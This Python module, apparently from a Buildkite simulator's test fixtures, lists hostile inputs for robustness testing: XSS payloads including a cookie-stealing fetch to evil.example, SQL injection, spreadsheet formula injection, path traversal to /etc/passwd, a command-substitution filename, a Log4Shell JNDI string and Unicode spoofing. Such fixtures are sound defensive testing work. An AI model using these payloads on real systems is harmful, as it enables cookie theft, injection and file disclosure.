"""What a careless or malicious program might leave behind: nothing here may do any harm."""

from buildkite_simulator.world.chance import pick
from buildkite_simulator.world.model import Organization

HOSTILE_BODIES: tuple[str, ...] = (
    '<script>fetch("https://evil.example/?" + document.cookie)</script>',
    '<img src=x onerror="alert(1)"><svg onload="alert(2)"/>',
    '<a href="javascript:alert(3)">click</a><iframe src="https://evil.example"></iframe>',
    "</td></tr></table></div></body></html>",
    '=HYPERLINK("https://evil.example","total")\n@SUM(1+1)*cmd|\' /C calc\'!A0',
    "'); DROP TABLE annotations; -- \" \\ \\u0000 \\x00",
    "\u202etxt.exe\u2066\u200b\ufeff 👩\u200d👩\u200d👧\u200d👦 e\u0301 \U0001f3f4\U000e0067",
    "<p>" * 2_000 + "deep" + "</p>" * 2_000,
    "",
    "\x1b[31mred\x1b[0m\r\n\ttab\x0b\x0c\x07",
    "x" * 1_048_576,
)

HOSTILE_PATHS: tuple[str, ...] = (
    "../../../../etc/passwd",
    "..",
    "a/../../b.txt",
    "/absolute/path.txt",
    "C:\\Windows\\system32\\calc.exe",
    "..\\..\\windows.txt",
    "line\nbreak.txt",
    "quote\"and'quote.txt",
    "space and # hash ? question % percent.txt",
    "%2e%2e%2fencoded.txt",
    "con.txt",
    "-rf",
    "$(touch pwned).txt",
    "<script>alert(1)</script>.html",
    "übung/日本語/👾.txt",
    "\u202egnp.exe",
    "d/" * 120 + "deep.txt",
    "n" * 250 + ".txt",
)

HOSTILE_TEST_NAMES: tuple[str, ...] = (
    '<script>alert("test")</script>',
    '"><img src=x onerror=alert(1)>',
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "'); DROP TABLE tests; -- \\ \\u0000",
    '=HYPERLINK("https://evil.example","passed")',
    "line\r\nbreak\ttab\x0b",
    "\u202edessap\u2066\u200b 👩\u200d👩\u200d👧",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example} %s %n",
    "n" * 20_000,
    "",
)

HOSTILE_NAMES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror="alert(2)">',
    "\x1b[31mred\x1b[0m\x07\x1b]0;title\x07",
    '=HYPERLINK("https://evil.example","x")',
    "'); DROP TABLE teams; --",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "line\nbreak\r\n\ttab",
    "javascript:alert(3)",
    "../../../../etc/passwd",
    "n" * 500,
)


def named(organization: Organization, plain: str) -> str:
    """Return a name or text, with a hostile one behind it where those were planted."""
    return f"{plain} {pick(HOSTILE_NAMES, plain)}" if organization.hostile else plain
